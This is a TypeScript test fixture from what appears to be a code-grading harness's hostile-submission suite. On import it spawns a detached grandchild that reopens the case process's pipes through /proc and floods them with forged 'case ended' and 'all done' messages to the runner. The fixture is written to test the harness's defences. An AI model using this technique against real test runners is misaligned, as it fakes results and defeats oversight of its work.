// Hostile submission 'writes-from-a-grandchild' for recorded mode in TypeScript (tests/hostile/node/README.md).
// The partial sample's code (examples/url-router/partial), then the attack.


// ---- the attack ----------------------------------------------------------------------------
// Starts a detached process at import, and waits half a second for it to start. Node does not
// let it inherit the case process's pipe to the runner, so it opens that pipe again through
// /proc/<case process>/fd (the case process is the sandbox user's own) and, for two seconds,
// writes on it every 10 ms messages claiming that the case running then ended and that every
// case is done.
import * as childProcess from "child_process";
import * as fs from "fs";

const out = fs.readlinkSync("/proc/self/fd/1");
const pipes = fs.readdirSync("/proc/self/fd").map(Number).filter((fd) => {
  try {
    const target = fs.readlinkSync(`/proc/self/fd/${fd}`);
    return fd > 2 && target.startsWith("pipe:") && target !== out;
  } catch {
    return false;
  }
});
const script = `const fs = require("fs");
const opened = [];
for (const fd of ${JSON.stringify(pipes)}) {
  try { opened.push(fs.openSync("/proc/${process.pid}/fd/" + fd, "w")); } catch {}
}
console.log("grandchild opened", opened.length, "of the case process's pipes");
const timer = setInterval(() => { for (const fd of opened) {
  try { fs.writeSync(fd, '{"m":"end","index":0}\\n{"m":"done"}\\n'); } catch {} } }, 10);
setTimeout(() => clearInterval(timer), 2000);`;
childProcess.spawn(process.execPath, ["-e", script], { detached: true, stdio: "inherit" });
Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 500); // let it start
